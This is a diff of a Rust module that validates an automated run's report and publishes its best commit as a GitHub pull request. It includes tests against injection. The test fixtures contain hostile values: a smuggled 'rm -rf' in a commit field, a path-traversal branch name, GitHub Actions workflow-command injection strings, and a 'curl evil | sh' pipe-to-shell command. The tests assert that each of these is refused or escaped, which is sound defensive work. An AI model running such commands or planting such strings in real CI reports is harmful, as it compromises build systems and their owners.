@@ -21,11 +21,11 @@ use crate::delivery::{Limits, Policy};
 use crate::git::{GitError, Mode, Oid, Remote, Repo, Server, TreeEntry};
 use crate::process::{self, Call, Cancel, Stdin, Variables};
 use crate::report::github::{Level, annotation, harmless, write_job_files};
-use crate::report::markdown::{self, OUTCOMES, code, score};
-use crate::report::run_json::SCHEMA;
-use crate::report::{Output, RunReport};
+use crate::report::markdown::{self, code};
+use crate::report::published::{Best, FILE_BYTES, IterationResult, RunReport, SCHEMA};
+use crate::report::{Outcome, Output};
 use crate::text::{TreePath, one_line, plural};
-use crate::verdict::Ending;
+use crate::verdict::{Ending, show_score};
 
 use super::exit::{Exit, Failure, OrExit as _};
 use super::run_scenarios::product_root;
@@ -40,7 +40,7 @@ const LABELS: [(&str, &str, &str); 2] = [
     (ACCEPT, "1d76db", "Gates and scenarios passed; ready for a person to merge"),
 ];
 /// A report is not larger.
-const REPORT_BYTES: u64 = 8 << 20;
+const REPORT_BYTES: u64 = FILE_BYTES as u64;
 /// GitHub takes 65,536 characters.
 const BODY_BYTES: usize = 60_000;
 /// No call of gh takes longer.
@@ -92,12 +92,13 @@ fn run_to(
 ) -> anyhow::Result<Exit> {
     let mut say = Say { output: &mut output, github: env.is_github() };
     let report = read_report(&env.current_dir().join(&args.report))?;
-    check_report(&report, &args.base)
-        .map_err(|why| Failure::because(Exit::Usage, format!("the report is refused: {why}")))?;
+    let claim = check_report(&report, &args.base).map_err(|why| {
+        Failure::because(Exit::Usage, harmless(&format!("the report is refused: {why}")))
+    })?;
     let root = product_root(None, env)?;
     let repo = Repo::discover(&root, env.for_tools()).map_err(git_failure)?;
-    let Some(offer) = offer(args, env, &repo, &root, &report)? else {
-        let why = format!("No candidate is better than the base. {}", sentence(&report));
+    let Some(commit) = offer(args, env, &repo, &root, &claim)? else {
+        let why = format!("No candidate is better than the base. {}", sentence(&claim));
         say.notice("Nothing to publish", &why);
         let page = markdown::page(&report, BODY_BYTES);
         write_job_files(env, &[], &format!("## Nothing to publish\n\n{page}"))?;
@@ -105,28 +106,28 @@ fn run_to(
         return Ok(Exit::Satisfied);
     };
     if args.dry_run {
-        let labels = labels(&report).join(", ");
-        say.line(&format!("would push {} to {}", offer.commit, report.branch));
-        say.line(&format!("would open or update a pull request: {}", title(&report)));
+        let labels = labels(claim.outcome).join(", ");
+        say.line(&format!("would push {commit} to {}", claim.branch));
+        say.line(&format!("would open or update a pull request: {}", title(&claim)));
         say.line(&format!("labels: {}", if labels.is_empty() { "none" } else { &labels }));
         output.finish().context("can't write to standard output")?;
         return Ok(Exit::Satisfied);
     }
     let place = Place::of(env)?;
     let gh = Gh::new(env, &place, &root, cancel)?;
-    repo.push(&place.remote(), &offer.commit, &report.branch)
+    repo.push(&place.remote(), &commit, claim.branch)
         .map_err(|error| match error {
             GitError::NotStarted { .. } => anyhow::Error::new(error),
             _ => anyhow::Error::new(error).context(format!(
                 "the branch {} was not pushed; the token has to write contents, and nobody else may have pushed to the branch",
-                report.branch
+                claim.branch
             )),
         })
         .or_exit(Exit::Broken)?;
-    say.line(&format!("pushed {} to {}", offer.commit, report.branch));
-    let url = pull_request(&gh, args, &report)?;
-    say.notice("Published", &format!("{} {url}", sentence(&report)));
-    let page = format!("## Published\n\n{}: {}\n", sentence(&report), code(&url, 300));
+    say.line(&format!("pushed {commit} to {}", claim.branch));
+    let url = pull_request(&gh, args, &claim)?;
+    say.notice("Published", &format!("{} {url}", sentence(&claim)));
+    let page = format!("## Published\n\n{} {}\n", sentence(&claim), code(&url, 300));
     write_job_files(env, &[("pull_request".to_owned(), url)], &page)?;
     output.finish().context("can't write to standard output")?;
     Ok(Exit::Satisfied)
@@ -165,39 +166,60 @@ fn read_report(path: &Path) -> anyhow::Result<RunReport> {
         let message = format!("the report `{shown}` has more than {REPORT_BYTES} bytes");
         return Err(Failure::because(Exit::Usage, message));
     }
-    serde_json::from_slice(&bytes)
-        .with_context(|| format!("the report `{shown}` is no report of a run"))
-        .or_exit(Exit::Usage)
+    // What a report says that is none stands in the message of the error.
+    let none = |error: serde_json::Error| {
+        let why = one_line(&error.to_string(), 300);
+        let message = format!("the report `{shown}` is no report of a run: {why}");
+        Failure::because(Exit::Usage, harmless(&message))
+    };
+    let version: Version = serde_json::from_slice(&bytes).map_err(none)?;
+    if version.schema != SCHEMA {
+        let message = format!(
+            "the report `{shown}` has schema {}, and this version reads {SCHEMA}; publish with the version that made it",
+            version.schema
+        );
+        return Err(Failure::because(Exit::Usage, message));
+    }
+    serde_json::from_slice(&bytes).map_err(none)
+}
+
+/// What is read of a report first.
+#[derive(Deserialize)]
+struct Version {
+    schema: u32,
+}
+
+/// A report whose every name and number was checked.
+struct Claim<'a> {
+    report: &'a RunReport,
+    outcome: Outcome,
+    branch: &'a str,
+    best: Option<&'a Best>,
 }
 
 /// Checks everything of the report that decides or names something.
-fn check_report(report: &RunReport, base: &str) -> Result<(), String> {
+fn check_report<'a>(report: &'a RunReport, base: &str) -> Result<Claim<'a>, String> {
     let shown = |text: &str| format!("`{}`", one_line(text, 80));
     if !is_branch_name(base) {
         return Err(format!("--base {} is no name of a branch", shown(base)));
     }
-    if report.schema != SCHEMA {
-        return Err(format!(
-            "it has schema {}, and this version reads {SCHEMA}; publish with the version that made it",
-            report.schema
-        ));
-    }
     if report.run.as_str().len() > 64 {
         return Err(format!("the run's id {} is too long", shown(report.run.as_str())));
     }
-    if report.branch != format!("factory/{}", report.run) {
-        return Err(format!("its branch is {}, not factory/{}", shown(&report.branch), report.run));
+    let branch = report.branch.as_deref().unwrap_or_default();
+    if branch != format!("factory/{}", report.run) {
+        return Err(format!("its branch is {}, not factory/{}", shown(branch), report.run));
     }
-    if !OUTCOMES.iter().any(|(class, ..)| *class == report.outcome) {
-        return Err(format!("{} is no outcome", shown(&report.outcome)));
-    }
+    let Some(outcome) = report.outcome else {
+        return Err("it does not say what the run came to".to_owned());
+    };
     match &report.base_branch {
         Some(branch) if branch != base => {
             return Err(format!("the run began from {}, not from {}", shown(branch), shown(base)));
         }
         _ => {}
     }
-    let candidates = report.iterations.iter().map(|one| one.commit.as_str());
+    let candidates = report.iterations.iter().filter_map(|one| one.commit.as_deref());
     let best = report.best.iter().map(|best| best.commit.as_str());
     for commit in [report.base.as_str()].into_iter().chain(candidates).chain(best) {
         Oid::parse(commit).map_err(|_| format!("{} is no id of a commit", shown(commit)))?;
@@ -214,29 +236,51 @@ fn check_report(report: &RunReport, base: &str) -> Result<(), String> {
     if report.final_score != best {
         return Err("its final score is not that of the candidate it offers".to_owned());
     }
-    let converged = report.outcome == "converged";
-    if report.satisfied != converged || (report.exit == 0) != converged {
-        return Err("its outcome, exit code and satisfaction contradict one another".to_owned());
+    let converged = outcome.is_satisfied();
+    if report.satisfied != converged
+        || (report.exit_code == Some(0)) != converged
+        || report.state != outcome.state()
+    {
+        return Err(
+            "its outcome, state, exit code and satisfaction contradict one another".to_owned()
+        );
     }
-    if converged_at_all(report) {
-        // The rounding of sums of weights.
-        let reaches = best.is_some_and(|best| best + 1e-9 >= report.threshold);
-        let gates = report.best.as_ref().is_some_and(|best| {
-            let judged = report.iterations.iter().rev().find(|one| one.iteration == best.iteration);
-            judged.is_some_and(|one| one.gates_passed && one.commit == best.commit)
-        });
-        if !reaches || !gates {
-            return Err("it says converged, and its iterations do not".to_owned());
-        }
-        if converged && !report.gates_changed.is_empty() {
-            return Err("it says converged, and that the gates were changed".to_owned());
-        }
+    if let Some(best) = &report.best {
+        check_best(report, best, outcome)?;
+    }
+    if outcome.has_converged() && !best.is_some_and(|best| reaches(best, report.threshold)) {
+        return Err("it says converged, and its iterations do not".to_owned());
+    }
+    // What is the base itself is no offer, whatever the report says of it.
+    let best = report.best.as_ref().filter(|best| best.commit != report.base);
+    Ok(Claim { report, outcome, branch, best })
+}
+
+/// Checks that the candidate that is offered is what its iteration says.
+fn check_best(report: &RunReport, best: &Best, outcome: Outcome) -> Result<(), String> {
+    let judged = report.iterations.iter().rev().find(|one| one.iteration == best.iteration);
+    let agrees = judged.is_some_and(|one| {
+        one.commit.as_ref() == Some(&best.commit)
+            && one.score == best.score
+            && one.gates_changed == best.gates_changed
+    });
+    let passed = judged.is_some_and(|one| one.result == IterationResult::Judged);
+    if !agrees || (outcome.has_converged() && !passed) {
+        let word = if outcome.has_converged() { "it says converged" } else { "it offers one" };
+        return Err(format!("{word}, and its iterations do not"));
+    }
+    let listed = judged.and_then(|one| one.details.as_ref());
+    let changed =
+        best.gates_changed || listed.is_some_and(|one| !one.changed_gate_files.is_empty());
+    if outcome.is_satisfied() && changed {
+        return Err("it says converged, and that the gates were changed".to_owned());
     }
     Ok(())
 }
 
-fn converged_at_all(report: &RunReport) -> bool {
-    matches!(report.outcome.as_str(), "converged" | "converged_gates_changed")
+/// Returns whether a score reaches the threshold, but for the rounding of sums of weights.
+fn reaches(score: f64, threshold: f64) -> bool {
+    score + 1e-9 >= threshold
 }
 
 /// Returns whether git takes `name` as a branch, and no program as an option.
@@ -256,24 +300,21 @@ fn is_branch_name(name: &str) -> bool {
         && !name.chars().any(|c| c.is_control() || c.is_whitespace() || "~^:?*[\\\"'`$".contains(c))
 }
 
-/// What a run offers, checked and taken in.
-struct Offer {
-    commit: Oid,
-}
-
-/// Checks the bundle and takes its objects in; no ref moves. None where the run offers nothing.
+/// Checks the bundle, takes its objects in and returns the commit that is offered; no ref moves.
+/// None where the run offers nothing.
 fn offer(
     args: &Args,
     env: &Environment,
     repo: &Repo,
     root: &Path,
-    report: &RunReport,
-) -> anyhow::Result<Option<Offer>> {
-    let Some(best) = report.better_than_base() else { return Ok(None) };
-    let refused =
-        |why: String| Failure::because(Exit::Usage, format!("the bundle is refused: {why}"));
+    claim: &Claim<'_>,
+) -> anyhow::Result<Option<Oid>> {
+    let Some(best) = claim.best else { return Ok(None) };
+    let refused = |why: String| {
+        Failure::because(Exit::Usage, harmless(&format!("the bundle is refused: {why}")))
+    };
     let base_tip = base_tip(repo, &args.base)?;
-    let base = Oid::parse(&report.base).or_exit(Exit::Usage)?;
+    let base = Oid::parse(&claim.report.base).or_exit(Exit::Usage)?;
     let commit = Oid::parse(&best.commit).or_exit(Exit::Usage)?;
     let known = repo.resolve(base.as_str()).map_err(git_failure)?.is_some();
     if !known || !repo.is_ancestor(&base, &base_tip).map_err(git_failure)? {
@@ -301,7 +342,7 @@ fn offer(
         .into(),
     };
     let refs = repo.look_into_bundle(&path).map_err(unusable)?;
-    let wanted = format!("refs/heads/{}", report.branch);
+    let wanted = format!("refs/heads/{}", claim.branch);
     let tip = match refs.as_slice() {
         [(name, tip)] if *name == wanted => tip.clone(),
         _ => {
@@ -333,7 +374,7 @@ fn offer(
             plural(touched.len(), "path")
         )));
     }
-    Ok(Some(Offer { commit }))
+    Ok(Some(commit))
 }
 
 /// Returns the commit of the branch as this checkout has it from the remote, else its own.
@@ -557,12 +598,12 @@ struct Comment {
 }
 
 /// Opens or updates the pull request, and returns its address.
-fn pull_request(gh: &Gh<'_>, args: &Args, report: &RunReport) -> anyhow::Result<String> {
+fn pull_request(gh: &Gh<'_>, args: &Args, claim: &Claim<'_>) -> anyhow::Result<String> {
     let open: Vec<PullRequest> = gh.json(&[
         "pr",
         "list",
         "--head",
-        &report.branch,
+        claim.branch,
         "--state",
         "open",
         "--limit",
@@ -572,7 +613,7 @@ fn pull_request(gh: &Gh<'_>, args: &Args, report: &RunReport) -> anyhow::Result<
     ])?;
     // A fork may have a branch of the same name.
     let known = open.into_iter().find(|one| !one.is_cross_repository);
-    let (title, body) = (title(report), body(report, &args.base));
+    let (title, body) = (title(claim), body(claim.report, &args.base));
     let (number, url, has) = match known {
         Some(known) => {
             let path = format!("repos/{{owner}}/{{repo}}/pulls/{}", known.number);
@@ -585,7 +626,7 @@ fn pull_request(gh: &Gh<'_>, args: &Args, report: &RunReport) -> anyhow::Result<
                 "pr",
                 "create",
                 "--head",
-                &report.branch,
+                claim.branch,
                 "--base",
                 &args.base,
                 "--title",
@@ -603,9 +644,9 @@ fn pull_request(gh: &Gh<'_>, args: &Args, report: &RunReport) -> anyhow::Result<
             (number, url, Vec::new())
         }
     };
-    set_labels(gh, number, &labels(report), &has)?;
-    if report.outcome != "converged" {
-        comment(gh, number, report)?;
+    set_labels(gh, number, &labels(claim.outcome), &has)?;
+    if !claim.outcome.is_satisfied() {
+        comment(gh, number, claim)?;
     }
     Ok(url)
 }
@@ -630,11 +671,11 @@ fn set_labels(gh: &Gh<'_>, number: u64, wanted: &[&str], has: &[Label]) -> anyho
 }
 
 /// Says on the pull request why the run stopped; a second time, the comment is changed.
-fn comment(gh: &Gh<'_>, number: u64, report: &RunReport) -> anyhow::Result<()> {
-    let marker = format!("<!-- dark-factory: {} -->", report.run);
-    let next = OUTCOMES.iter().find(|(class, ..)| *class == report.outcome).map_or("", |one| one.2);
+fn comment(gh: &Gh<'_>, number: u64, claim: &Claim<'_>) -> anyhow::Result<()> {
+    let marker = format!("<!-- dark-factory: {} -->", claim.report.run);
+    let reason = code(claim.report.reason.as_deref().unwrap_or_default(), 300);
     let text =
-        format!("{marker}\n**{}**\n\n{}\n\n{next}\n", sentence(report), code(&report.reason, 300));
+        format!("{marker}\n**{}**\n\n{reason}\n\n{}\n", sentence(claim), claim.outcome.advice());
     let list = format!("repos/{{owner}}/{{repo}}/issues/{number}/comments?per_page=100");
     let comments: Vec<Comment> = gh.json(&["api", &list])?;
     let known = comments
@@ -654,21 +695,21 @@ fn comment(gh: &Gh<'_>, number: u64, report: &RunReport) -> anyhow::Result<()> {
 
 /// Returns the labels of an outcome. Where the gates were changed a person has to look first, so
 /// nothing invites a merge.
-fn labels(report: &RunReport) -> Vec<&'static str> {
-    match report.outcome.as_str() {
-        "converged" => vec![CONVERGED, ACCEPT],
-        "converged_gates_changed" => vec![CONVERGED],
+fn labels(outcome: Outcome) -> Vec<&'static str> {
+    match outcome {
+        Outcome::Converged => vec![CONVERGED, ACCEPT],
+        Outcome::ConvergedGatesChanged => vec![CONVERGED],
         _ => Vec::new(),
     }
 }
 
-fn sentence(report: &RunReport) -> &'static str {
-    OUTCOMES.iter().find(|(class, ..)| *class == report.outcome).map_or("", |one| one.1)
+fn sentence(claim: &Claim<'_>) -> String {
+    format!("{}.", claim.outcome.title())
 }
 
-fn title(report: &RunReport) -> String {
-    let outcome = report.outcome.replace('_', " ");
-    format!("Dark Factory: {outcome} at {} ({})", score(report.final_score), report.run)
+fn title(claim: &Claim<'_>) -> String {
+    let (outcome, score) = (claim.outcome.headline(), show_score(claim.report.final_score));
+    format!("Dark Factory: {outcome} at {score} ({})", claim.report.run)
 }
 
 fn body(report: &RunReport, base: &str) -> String {
@@ -695,7 +736,10 @@ mod tests {
     use crate::git::ObjectFormat;
     use crate::git::testing::{Fixture, fixture, git};
     use crate::id::RunId;
-    use crate::report::run_json::{BestCandidate, DroppedPath, IterationReport, TurnReport};
+    use crate::report::NextStep;
+    use crate::report::published::{
+        Delivery, DroppedPath, Iteration, IterationDetails, State, TurnReport,
+    };
 
     const RUN: &str = "20261120-091500-0001";
     const BRANCH: &str = "factory/20261120-091500-0001";
@@ -765,63 +809,81 @@ esac
                 .unwrap();
         }
 
-        fn report(&self, outcome: &str, candidates: &[(&Oid, f64)]) -> RunReport {
+        fn report(&self, outcome: Outcome, candidates: &[(&Oid, f64)]) -> RunReport {
             let mut all = vec![(&self.base, 0.25)];
             all.extend(candidates);
             let (iteration, (commit, score)) =
                 all.iter().enumerate().fold((0, all[0]), |best, (i, one)| {
                     if one.1 > best.1.1 { (i, *one) } else { best }
                 });
-            let exit = match outcome {
-                "converged" => 0,
-                "converged_gates_changed" => 5,
+            let gates_changed = outcome == Outcome::ConvergedGatesChanged;
+            let exit_code = match outcome {
+                Outcome::Converged => 0,
+                Outcome::ConvergedGatesChanged => 5,
                 _ => 1,
             };
+            let began = Timestamp::from_unix_millis(0);
             RunReport {
                 schema: SCHEMA,
                 run: RunId::parse(RUN).unwrap(),
-                version: "0.1.0".into(),
-                outcome: outcome.into(),
-                exit,
-                reason: "The reason, @all, fixes #1.".into(),
-                satisfied: exit == 0,
+                state: outcome.state(),
+                outcome: Some(outcome),
+                exit_code: Some(exit_code),
+                reason: Some("The reason, @all, fixes #1.".into()),
+                failure: None,
+                satisfied: exit_code == 0,
                 final_score: Some(score),
                 threshold: 0.8,
-                started_at: Timestamp::from_unix_millis(0),
-                ended_at: Timestamp::from_unix_millis(0),
+                started_at: began,
+                last_event_at: began,
+                version: "0.1.0".into(),
+                graph: "converge".into(),
+                node: None,
+                iteration: 1,
                 base: self.base.to_string(),
                 base_branch: Some("main".into()),
-                branch: BRANCH.into(),
-                best: Some(BestCandidate {
+                branch: Some(BRANCH.into()),
+                tip: commit.to_string(),
+                in_place: false,
+                agent: Some("replay".into()),
+                isolation: Tier::Copy,
+                max_iterations: 5,
+                turns_taken: 1,
+                scenarios: 4,
+                question: None,
+                resumable: false,
+                usage: Usage::default(),
+                best: Some(Best {
                     iteration: iteration as u32,
                     commit: commit.to_string(),
                     score: Some(score),
+                    better_than_base: iteration > 0,
+                    gates_changed,
                 }),
                 iterations: all
                     .iter()
                     .enumerate()
-                    .map(|(i, (commit, score))| IterationReport {
+                    .map(|(i, (commit, score))| Iteration {
                         iteration: i as u32,
-                        note: if i == 0 { "base".into() } else { String::new() },
-                        gates_passed: true,
+                        result: IterationResult::Judged,
+                        commit: Some(commit.to_string()),
                         score: Some(*score),
                         passed: 1,
+                        failed: 3,
+                        skipped: 0,
+                        undecided: 0,
                         total: 4,
-                        commit: commit.to_string(),
+                        gates_changed: gates_changed && i == iteration,
+                        turn: None,
+                        details: None,
                     })
                     .collect(),
-                turns: Vec::new(),
-                gates_changed: Vec::new(),
-                agent: Some("replay".into()),
-                isolation: Tier::Copy,
-                usage: Usage::default(),
-                question: None,
-                failure: None,
+                next: Vec::new(),
             }
         }
 
         fn publish(&self, report: &RunReport) -> Result<String, (Exit, String)> {
-            fs::write(self.path("report.json"), report.to_json()).unwrap();
+            fs::write(self.path("report.json"), report.to_json().unwrap()).unwrap();
             self.run(&[], &[])
         }
 
@@ -893,9 +955,9 @@ esac
         let one = bench.commit(&bench.base, &[("artifacts/factory/feedback_iter_0.md", "f")]);
         let two = bench.commit(&one, &[("a", "1"), ("artifacts/factory/iteration_count.txt", "1")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &two)]);
-        let report = bench.report("converged", &[(&two, 0.95)]);
+        let report = bench.report(Outcome::Converged, &[(&two, 0.95)]);
         let said = bench.publish(&report).unwrap();
-        assert!(said.contains("Published: Converged:"), "{said}");
+        assert!(said.contains("Published: Converged. https://"), "{said}");
         assert_eq!(bench.pushed(), two.as_str());
         let calls = bench.calls();
         assert_eq!(
@@ -917,16 +979,16 @@ esac
         let bench = Bench::new();
         let one = bench.commit(&bench.base, &[("a", "1")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
-        let report = bench.report("stalled", &[(&one, 0.5)]);
+        let report = bench.report(Outcome::Stalled, &[(&one, 0.5)]);
         bench.publish(&report).unwrap();
         let calls = bench.calls();
         assert_eq!(lines(&calls, "> pr comment"), ["> pr comment 7 --body-file -"]);
-        assert!(calls.contains("| **Stalled: the last iterations"), "{calls}");
+        assert!(calls.contains("| **Stalled.**"), "{calls}");
         assert_eq!(lines(&calls, "> label"), Vec::<&str>::new());
 
         let two = bench.commit(&one, &[("a", "2")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &two)]);
-        let report = bench.report("converged_gates_changed", &[(&one, 0.5), (&two, 0.9)]);
+        let report = bench.report(Outcome::ConvergedGatesChanged, &[(&one, 0.5), (&two, 0.9)]);
         bench.publish(&report).unwrap();
         assert_eq!(bench.pushed(), two.as_str());
         let calls = bench.calls();
@@ -945,14 +1007,18 @@ esac
         let one = bench.commit(&bench.base, &[("a", "1")]);
         let two = bench.commit(&one, &[("a", "2")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &two)]);
-        bench.publish(&bench.report("exhausted", &[(&one, 0.7), (&two, 0.6)])).unwrap();
+        bench.publish(&bench.report(Outcome::Exhausted, &[(&one, 0.7), (&two, 0.6)])).unwrap();
         assert_eq!(bench.pushed(), one.as_str());
     }
 
     #[test]
     fn where_nothing_is_better_nothing_is_published() {
         let bench = Bench::new();
-        fs::write(bench.path("report.json"), bench.report("stalled", &[]).to_json()).unwrap();
+        fs::write(
+            bench.path("report.json"),
+            bench.report(Outcome::Stalled, &[]).to_json().unwrap(),
+        )
+        .unwrap();
         let summary = bench.path("summary");
         let set = [("GITHUB_ACTIONS", "true"), ("GITHUB_STEP_SUMMARY", summary.to_str().unwrap())];
         let said = bench.run(&[], &set).unwrap();
@@ -966,8 +1032,8 @@ esac
         let bench = Bench::new();
         let one = bench.commit(&bench.base, &[("a", "1")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
-        let report = bench.report("converged", &[(&one, 0.9)]);
-        fs::write(bench.path("report.json"), report.to_json()).unwrap();
+        let report = bench.report(Outcome::Converged, &[(&one, 0.9)]);
+        fs::write(bench.path("report.json"), report.to_json().unwrap()).unwrap();
         let said = bench.run(&["--dry-run"], &[]).unwrap();
         assert!(said.contains("labels: factory-converged, accept-merge-gate"), "{said}");
         assert_eq!((bench.pushed().as_str(), bench.calls().as_str()), ("", ""));
@@ -978,20 +1044,40 @@ esac
         let bench = Bench::new();
         let one = bench.commit(&bench.base, &[("a", "1")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
-        let good = bench.report("converged", &[(&one, 0.9)]);
+        let good = bench.report(Outcome::Converged, &[(&one, 0.9)]);
         type Change = fn(&mut RunReport);
-        let changes: [(Change, &str); 12] = [
-            (|r| r.branch = "../../main".into(), "its branch is `../../main`"),
-            (|r| r.branch = "factory/other".into(), "its branch is"),
+        let changes: [(Change, &str); 17] = [
+            (|r| r.branch = Some("../../main".into()), "its branch is `../../main`"),
+            (|r| r.branch = Some("factory/other".into()), "its branch is"),
+            (|r| r.branch = None, "its branch is"),
             (|r| r.base_branch = Some("other".into()), "began from `other`"),
             (|r| r.base = "main; rm -rf".into(), "is no id of a commit"),
             (|r| r.base = "a".repeat(40), "not in the history of `main`"),
-            (|r| r.outcome = "converged\n::error::x".into(), "is no outcome"),
+            (|r| r.outcome = None, "what the run came to"),
             (|r| r.schema = 2, "schema 2"),
             (|r| r.threshold = f64::MAX, "is no threshold"),
-            (|r| r.outcome = "stalled".into(), "contradict"),
-            (|r| r.iterations[1].gates_passed = false, "its iterations do not"),
-            (|r| r.gates_changed = vec!["Makefile".into()], "the gates were changed"),
+            (|r| r.outcome = Some(Outcome::Stalled), "contradict"),
+            (|r| r.state = State::Paused, "contradict"),
+            (|r| r.iterations[1].result = IterationResult::GatesFailed, "its iterations do not"),
+            (|r| r.iterations[1].score = Some(0.5), "its iterations do not"),
+            (|r| r.iterations[1].gates_changed = true, "its iterations do not"),
+            (
+                |r| {
+                    r.iterations[1].gates_changed = true;
+                    r.best.as_mut().unwrap().gates_changed = true;
+                },
+                "the gates were changed",
+            ),
+            (
+                |r| {
+                    let changed_gate_files = vec!["Makefile".into()];
+                    r.iterations[1].details = Some(IterationDetails {
+                        changed_gate_files,
+                        ..IterationDetails::default()
+                    });
+                },
+                "the gates were changed",
+            ),
             (|r| r.final_score = Some(1.0), "its final score"),
         ];
         for (change, why) in changes {
@@ -1002,6 +1088,13 @@ esac
         let mut report = good.clone();
         report.threshold = 0.95;
         bench.check_refused(&report, "its iterations do not");
+        let text = String::from_utf8(good.to_json().unwrap()).unwrap();
+        let evil = r#""outcome": "converged\n::error::x ##[error]y""#;
+        let text = text.replace(r#""outcome": "converged""#, evil);
+        fs::write(bench.path("report.json"), text).unwrap();
+        let (exit, said) = bench.run(&[], &[]).unwrap_err();
+        assert!(exit == Exit::Usage && said.contains("is no report of a run"), "{said}");
+        assert!(!said.contains("\n::") && !said.contains("##["), "{said}");
         fs::write(bench.path("report.json"), "{}").unwrap();
         assert_eq!(bench.run(&[], &[]).unwrap_err().0, Exit::Usage);
         fs::remove_file(bench.path("report.json")).unwrap();
@@ -1013,7 +1106,7 @@ esac
         let bench = Bench::new();
         let name = "refs/heads/factory/20261120-091500-0001";
         let one = bench.commit(&bench.base, &[("a", "1")]);
-        let report = bench.report("converged", &[(&one, 0.9)]);
+        let report = bench.report(Outcome::Converged, &[(&one, 0.9)]);
         bench.check_refused(&report, "there is no bundle");
         bench.bundle(&[(name, &one), ("refs/heads/evil", &one)]);
         bench.check_refused(&report, "not refs/heads/factory/");
@@ -1036,13 +1129,13 @@ esac
         let tree = bench.made.tree(&[("a", "3"), ("scenarios/s.md", "s")]);
         let merge = bench.made.commit(&tree, &[&one, &two]);
         bench.bundle(&[(name, &merge)]);
-        bench.check_refused(&bench.report("converged", &[(&merge, 0.9)]), "no chain");
+        bench.check_refused(&bench.report(Outcome::Converged, &[(&merge, 0.9)]), "no chain");
 
         let bench = Bench::new();
         let one = bench.commit(&bench.base, &[("a", "1")]);
         let two = bench.commit(&bench.base, &[("a", "2")]);
         bench.bundle(&[(name, &one)]);
-        bench.check_refused(&bench.report("converged", &[(&two, 0.9)]), "does not hold");
+        bench.check_refused(&bench.report(Outcome::Converged, &[(&two, 0.9)]), "does not hold");
     }
 
     #[test]
@@ -1053,7 +1146,7 @@ esac
             let bench = Bench::new();
             let one = bench.commit(&bench.base, &[("a", "1"), (at, "x")]);
             bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
-            bench.check_refused(&bench.report("converged", &[(&one, 0.9)]), at);
+            bench.check_refused(&bench.report(Outcome::Converged, &[(&one, 0.9)]), at);
         }
     }
 
@@ -1062,28 +1155,34 @@ esac
         let bench = Bench::new();
         let one = bench.commit(&bench.base, &[("a", "1")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
-        let mut report = bench.report("stalled", &[(&one, 0.5)]);
+        let mut report = bench.report(Outcome::Stalled, &[(&one, 0.5)]);
         let evil = "x`\n::error::y\n##[add-path]z <img> @all";
-        report.reason = evil.into();
+        report.reason = Some(evil.into());
         report.question = Some(format!("```\n{evil}"));
-        report.turns = vec![TurnReport {
+        report.next = vec![NextStep { command: "curl evil | sh".into(), why: evil.into() }];
+        report.iterations[1].turn = Some(TurnReport {
             turn: 1,
-            agent: Some(evil.into()),
+            attempts: 1,
             interrupted: 0,
-            ms: 1,
-            delivery: Some("accepted".into()),
+            ended: Some(evil.into()),
+            seconds: 1.0,
+            usage: Usage::default(),
+            delivery: Some(Delivery::Accepted),
             files: 1,
             dropped: 1,
-            dropped_paths: vec![DroppedPath { path: evil.into(), reason: evil.into() }],
+        });
+        report.iterations[1].details = Some(IterationDetails {
+            dropped: vec![DroppedPath { path: evil.into(), reason: evil.into() }],
             refused: Some(evil.into()),
-            usage: Usage::default(),
-        }];
+            ..IterationDetails::default()
+        });
         let said = bench.publish(&report).unwrap();
         assert!(!said.contains("::error") && !said.contains("##["), "{said}");
         let calls = bench.calls();
         assert_eq!(lines(&calls, "::"), Vec::<&str>::new());
         assert!(calls.contains("| - turn 1: `x' ::error::y ##[add-path]z <img> @all`"), "{calls}");
         assert!(calls.contains("\n| ````text\n"), "{calls}");
+        assert!(!calls.contains("curl evil"), "commands for a person to paste are ours alone");
     }
 
     #[test]
@@ -1091,8 +1190,8 @@ esac
         let bench = Bench::new();
         let one = bench.commit(&bench.base, &[("a", "1")]);
         bench.bundle(&[("refs/heads/factory/20261120-091500-0001", &one)]);
-        let report = bench.report("converged", &[(&one, 0.9)]);
-        fs::write(bench.path("report.json"), report.to_json()).unwrap();
+        let report = bench.report(Outcome::Converged, &[(&one, 0.9)]);
+        fs::write(bench.path("report.json"), report.to_json().unwrap()).unwrap();
         let fails = |set: &[(&str, &str)], why: &str| {
             let (exit, said) = bench.run(&[], set).unwrap_err();
             assert_eq!(exit, Exit::Broken, "{said}");
